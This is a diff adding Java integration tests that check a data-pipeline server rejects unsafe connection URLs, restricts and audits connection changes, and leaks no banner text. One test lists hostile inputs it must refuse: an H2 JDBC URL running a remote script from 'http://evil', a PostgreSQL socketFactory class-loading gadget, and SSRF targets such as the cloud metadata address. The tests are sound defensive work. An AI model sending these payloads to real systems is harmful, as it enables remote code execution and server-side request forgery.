@@ -26,10 +26,11 @@ import dev.sluice.workspace.WorkspaceRole;
 
 /**
  * The holes a security review found in targets, reproduced through the REST API: code run in the server through a
- * JDBC URL, forged events published into another workspace's source, a secret's value sent to any host.
+ * JDBC URL, forged events published into another workspace's source, a secret's value sent to any host; and the
+ * connections that close them: owned, allowlisted, audited. Runs with the default allowlist (nothing listed).
  */
 @SpringBootTest(classes = TestApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
-        properties = {"sluice.demo.enabled=true", "sluice.demo.password=demo-it"})
+        properties = {"sluice.demo.enabled=true", "sluice.demo.password=demo-it", "sluice.connections.allow="})
 abstract class ConnectionSecurityContractIT {
 
     @DynamicPropertySource
@@ -120,6 +121,159 @@ abstract class ConnectionSecurityContractIT {
 
             assertThat(catcher.passwords()).as(check.body()).doesNotContain("s3cret-value");
         }
+    }
+
+    private String owner() {
+        String owner = ApiCalls.unique("owner");
+        administration.createUser(owner, "Owner", "demo-it", null);
+        administration.addMember(owner, "finance", WorkspaceRole.OWNER);
+        return owner;
+    }
+
+    private ApiCalls.Response connection(String user, String json) {
+        return api.call("POST", "/api/workspaces/finance/connections", user, json);
+    }
+
+    @Test
+    void ownersDefineConnectionsThatStewardsMayUseButNotChangeAndEveryChangeIsAudited() {
+        String owner = owner();
+        String name = ApiCalls.unique("hooks");
+
+        ApiCalls.Response created = connection(owner, """
+                {"name": "%s", "kind": "http", "url": "https://hooks.example.com/in", "headers": {"X-Tenant": "fin"}}
+                """.formatted(name));
+        ApiCalls.Response bySteward = connection("finance", """
+                {"name": "%s", "kind": "http", "url": "https://hooks.example.com/in"}""".formatted(ApiCalls.unique("s")));
+        ApiCalls.Response listedByViewer = api.get("/api/workspaces/finance/connections", "viewer");
+        ApiCalls.Response byOtherWorkspace = api.get("/api/workspaces/finance/connections/" + name, "service");
+
+        assertThat(created.status()).as(created.body()).isEqualTo(201);
+        assertThat(created.json().path("url").asText()).isEqualTo("https://hooks.example.com/in");
+        assertThat(bySteward.status()).isEqualTo(403);
+        assertThat(listedByViewer.status()).isEqualTo(200);
+        assertThat(listedByViewer.body()).contains(name);
+        assertThat(byOtherWorkspace.status()).isEqualTo(404);
+        ApiCalls.Response audit = api.get("/api/audit?action=connection.*&workspace=finance&size=200", "admin");
+        assertThat(audit.body()).contains("connection.create").contains(name);
+        assertThat(api.get("/api/audit?action=request.denied&size=200", "admin").body())
+                .contains("POST /api/workspaces/finance/connections");
+    }
+
+    @Test
+    void refusesHostileConnectionsWithTheReasonAtTheirPathAndAuditsTheRefusal() {
+        String owner = owner();
+        for (String[] hostile : new String[][]{
+                {"jdbc", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "H2 settings"},
+                {"jdbc", "jdbc:postgresql://db.example.com/ledger?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext", "loads a Java class"},
+                {"jdbc", "jdbc:postgresql://127.0.0.1:5432/ledger", "loopback"},
+                {"jdbc", "jdbc:mysql://db.example.com/ledger", "not supported"},
+                {"rabbitmq", "amqp://guest:guest@mq.example.com/", "credentials"},
+                {"http", "http://169.254.169.254/latest/meta-data/", "link-local"},
+                {"http", "http://2130706433/", "numeric address"}}) {
+            ApiCalls.Response refused = connection(owner, """
+                    {"name": "%s", "kind": "%s", "url": "%s"}""".formatted(ApiCalls.unique("bad"), hostile[0],
+                    hostile[1].replace("\\", "\\\\")));
+
+            assertThat(refused.status()).as(hostile[1] + " " + refused.body()).isEqualTo(400);
+            assertThat(refused.json().path("errors").get(0).path("path").asText()).as(hostile[1]).isEqualTo("$.url");
+            assertThat(refused.json().path("errors").get(0).path("message").asText()).as(hostile[1])
+                    .contains(hostile[2]);
+        }
+        assertThat(api.get("/api/audit?action=connection.refused&workspace=finance&size=200", "admin").json()
+                .path("entries").size()).isGreaterThanOrEqualTo(7);
+    }
+
+    @Test
+    void aPlatformAdminAllowsLoopbackAndTheConnectionThenWorksWhileOthersMayNotChangeTheList() {
+        String owner = owner();
+        String name = ApiCalls.unique("local");
+        String local = """
+                {"name": "%s", "kind": "http", "url": "http://127.0.0.1:%d/"}""".formatted(name, listener.getAddress().getPort());
+        assertThat(connection(owner, local).status()).isEqualTo(400);
+
+        ApiCalls.Response byOwner = api.call("PUT", "/api/admin/connection-allowlist", owner,
+                "{\"entries\": [{\"entry\": \"127.0.0.1\"}]}");
+        ApiCalls.Response byAdmin = api.call("PUT", "/api/admin/connection-allowlist", "admin",
+                "{\"entries\": [{\"entry\": \"127.0.0.1:%d\", \"note\": \"test hook\"}]}".formatted(
+                        listener.getAddress().getPort()));
+        try {
+            ApiCalls.Response created = connection(owner, local);
+            ApiCalls.Response check = api.call("POST", "/api/workspaces/finance/connections/" + name + "/check",
+                    "finance", null);
+
+            assertThat(byOwner.status()).isEqualTo(403);
+            assertThat(byAdmin.status()).as(byAdmin.body()).isEqualTo(200);
+            assertThat(created.status()).as(created.body()).isEqualTo(201);
+            assertThat(check.json().path("reachable").asBoolean()).as(check.body()).isTrue();
+            assertThat(api.get("/api/audit?action=connection.*&size=200", "admin").body())
+                    .contains("connection.allowlist.change", "connection.check");
+        } finally {
+            api.call("PUT", "/api/admin/connection-allowlist", "admin", "{\"entries\": []}");
+        }
+    }
+
+    @Test
+    void aCheckNeverRepeatsWhatTheOtherSideSaid() throws Exception {
+        api.call("PUT", "/api/admin/connection-allowlist", "admin", "{\"entries\": [{\"entry\": \"127.0.0.1\"}]}");
+        try (java.net.ServerSocket banner = new java.net.ServerSocket(0, 5, java.net.InetAddress.getLoopbackAddress())) {
+            Thread.ofVirtual().start(() -> {
+                while (!banner.isClosed()) {
+                    try (java.net.Socket client = banner.accept()) {
+                        client.getOutputStream().write("SSH-2.0-OpenSSH_9.2 secret-banner\r\n".getBytes());
+                        client.getOutputStream().flush();
+                        Thread.sleep(200);
+                    } catch (Exception e) {
+                        // closed
+                    }
+                }
+            });
+            String owner = owner();
+            String name = ApiCalls.unique("scan");
+            for (String kind : List.of("jdbc", "rabbitmq", "http")) {
+                String url = switch (kind) {
+                    case "jdbc" -> "jdbc:postgresql://127.0.0.1:" + banner.getLocalPort() + "/x";
+                    case "rabbitmq" -> "amqp://127.0.0.1:" + banner.getLocalPort() + "/";
+                    default -> "http://127.0.0.1:" + banner.getLocalPort() + "/";
+                };
+                assertThat(connection(owner, "{\"name\": \"%s-%s\", \"kind\": \"%s\", \"url\": \"%s\"}"
+                        .formatted(name, kind, kind, url)).status()).isEqualTo(201);
+                ApiCalls.Response check = api.call("POST", "/api/workspaces/finance/connections/" + name + "-" + kind
+                        + "/check", owner, null);
+
+                assertThat(check.json().path("reachable").asBoolean()).as(kind).isFalse();
+                assertThat(check.body()).as(kind).doesNotContain("SSH", "OpenSSH", "secret-banner", "Exception");
+            }
+        } finally {
+            api.call("PUT", "/api/admin/connection-allowlist", "admin", "{\"entries\": []}");
+        }
+    }
+
+    @Test
+    void aFlowPublishesIntoItsWorkspacesOwnExchangeWhichSluiceDeclares() {
+        String exchange = "ws.finance." + ApiCalls.unique("ledger");
+        ApiCalls.Response imported = api.call("POST", "/api/flows/import", "finance", """
+                {"schemaVersion": 1, "name": "%s", "workspace": "finance",
+                 "nodes": [{"id": "in", "kind": "source", "config": {"source": "user-center.users"}},
+                           {"id": "ids", "kind": "select", "config": {"paths": ["$.data.userId"]}},
+                           {"id": "out", "kind": "target.rabbitmq", "config": {"exchange": "%s"}}],
+                 "edges": [{"from": "in", "to": "ids"}, {"from": "ids", "to": "out"}]}""".formatted(
+                ApiCalls.unique("own"), exchange));
+        long id = imported.json().path("id").asLong();
+
+        ApiCalls.Response deployed = api.call("POST", "/api/flows/" + id + "/deploy", "finance", "{}");
+        ApiCalls.Response check = api.call("POST", "/api/flows/" + id + "/target-check", "finance",
+                "{\"kind\": \"target.rabbitmq\", \"config\": {\"exchange\": \"" + exchange + "\"}}");
+
+        assertThat(imported.status()).as(imported.body()).isEqualTo(201);
+        assertThat(deployed.status()).as(deployed.body()).isEqualTo(200);
+        long deadline = System.currentTimeMillis() + 20_000;
+        ApiCalls.Response again = check;
+        while (!again.body().contains("exists") && System.currentTimeMillis() < deadline) {
+            again = api.call("POST", "/api/flows/" + id + "/target-check", "finance",
+                    "{\"kind\": \"target.rabbitmq\", \"config\": {\"exchange\": \"" + exchange + "\"}}");
+        }
+        assertThat(again.body()).as("the engine declared the exchange").contains("exists");
+        api.call("POST", "/api/flows/" + id + "/undeploy", "finance", "{\"deleteQueue\": true}");
     }
 
     /** Speaks just enough of PostgreSQL's protocol to ask a client for its password in clear text. */
